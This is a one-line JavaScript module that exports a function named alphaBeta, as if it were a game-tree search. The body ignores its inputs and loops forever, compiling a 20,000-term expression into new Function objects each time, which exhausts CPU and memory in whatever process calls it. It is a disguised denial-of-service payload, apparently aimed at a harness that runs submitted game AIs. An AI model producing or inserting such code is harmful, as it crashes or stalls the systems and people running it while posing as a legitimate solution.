export function alphaBeta(game, state) { const body = 'a+'.repeat(20000) + '1'; for (;;) new Function('a', body); }
